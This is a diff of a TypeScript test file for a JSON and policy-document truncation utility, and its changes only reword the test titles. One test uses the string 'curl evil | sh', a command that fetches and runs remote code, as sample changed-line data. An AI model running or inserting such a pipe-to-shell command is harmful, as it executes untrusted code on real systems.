@@ -14,13 +14,13 @@ test.each<[string, Json]>([
   ['a map', Object.fromEntries(list.map((one) => [one, 1]))],
   ['what lies inside', [{ a: { b: list } }]],
   ['a document in a text', JSON.stringify({ list })],
-])('truncates %s that is too long on one side, and marks it', (_what, value) => {
+])('cuts %s that is too long on one side, and tells that it did', (_what, value) => {
   expect(JSON.stringify(only(value)).length).toBeLessThan(17_000);
   expect(isTruncated(only(value))).toBe(true);
   expect(isTruncated(value)).toBe(false);
 });
 
-test('keeps a value that fits unchanged', () => {
+test('keeps what has room as it is', () => {
   const value = { a: ['…', 'one (2 more)'], b: 'text', c: null, d: 1 };
   expect(truncate(value, { ...value, d: 2 })).toEqual([value, { ...value, d: 2 }]);
   expect(isTruncated(value)).toBe(false);
@@ -36,7 +36,7 @@ const policy = (statements: Json[]) => JSON.stringify({ Version: '2012-10-17', S
 const all = Array.from({ length: 40 }, (_, i) => statement(i));
 
 describe('two long values', () => {
-  test('shows the one changed statement of forty, and keeps documents valid', () => {
+  test('show the one statement of forty that has changed, and stay documents', () => {
     const changed = all.with(38, statement(38, ['s3:Get38', 's3:*']));
     const [before, after] = texts(policy(all), policy(changed));
     expect(after.length).toBeLessThan(1000);
@@ -46,7 +46,7 @@ describe('two long values', () => {
     expect([before, after].every(isTruncated)).toBe(true);
   });
 
-  test('shows an added statement between the adjacent ones', () => {
+  test('show the statement that was added, between its neighbours', () => {
     const short = Array.from({ length: 200 }, (_, i) => ({ Sid: `S${i}`, Effect: 'Allow', Action: `s3:Get${i}` }));
     const added = { Sid: 'New', Effect: 'Allow', Action: '*' };
     const [, after] = texts(policy(short), policy(short.toSpliced(150, 0, added)));
@@ -54,7 +54,7 @@ describe('two long values', () => {
     expect(Statement).toEqual(['… (149 more)', short[149], added, short[150], '… (49 more)']);
   });
 
-  test('shows differing lines, each with three around it', () => {
+  test('show the lines that differ, each with three around it', () => {
     const lines = Array.from({ length: 2000 }, (_, i) => `line ${i}`);
     const [before, after] = texts(lines.join('\n'), lines.with(1500, 'curl evil | sh').join('\n'));
     expect(after.split('\n')).toEqual([
@@ -71,7 +71,7 @@ describe('two long values', () => {
     expect(before).toContain('\nline 1500\n');
   });
 
-  test('shows the position where two long lines differ', () => {
+  test('show where two long lines part', () => {
     const long = 'x'.repeat(20_000);
     const [before, after] = texts(`${long}old${long}`, `${long}new${long}`);
     expect(before).toContain('xoldx');
@@ -79,7 +79,7 @@ describe('two long values', () => {
     expect(after.length).toBeLessThan(500);
   });
 
-  test('shows members named like built-in properties of objects', () => {
+  test('show members that are called what every object has', () => {
     const [document, long] = [{ a: 'x'.repeat(9000) }, 'y'.repeat(9000)];
     for (const name of ['constructor', 'toString', '__proto__']) {
       const more = JSON.parse(`{"a":${JSON.stringify(document.a)},"${name}":"z"}`) as JsonObject;
@@ -90,20 +90,20 @@ describe('two long values', () => {
     expect(texts(long, `${long}\nconstructor`)[1]).toContain('constructor');
   });
 
-  test('shows the differing one of very many equal lines', () => {
+  test('show the one of very many equal lines that differs', () => {
     const lines = 'a: 1\n'.repeat(150_000);
     const [before, after] = texts(`${lines}old`, `${lines}new`);
     expect(before).toMatch(/\nold$/);
     expect(after).toMatch(/\nnew$/);
   });
 
-  test('shows the differing members of a map and counts the equal ones', () => {
+  test('show the members of a map that differ and how many are the same', () => {
     const map = Object.fromEntries(list.map((one) => [one, 'y'.repeat(250)]));
     const [, after] = truncate(map, { ...map, '10.0.4000.0/24': 'z' });
     expect(after).toEqual({ '10.0.4000.0/24': 'z', '…': '4999 more' });
   });
 
-  test('keeps values different after truncation that were different before', () => {
+  test('differ after truncation wherever they differed before', () => {
     const element = fc.oneof(fc.string(), fc.record({ name: fc.string(), text: fc.string({ maxLength: 300 }) }));
     const lists = fc.array(element, { minLength: 40, maxLength: 80 });
     fc.assert(
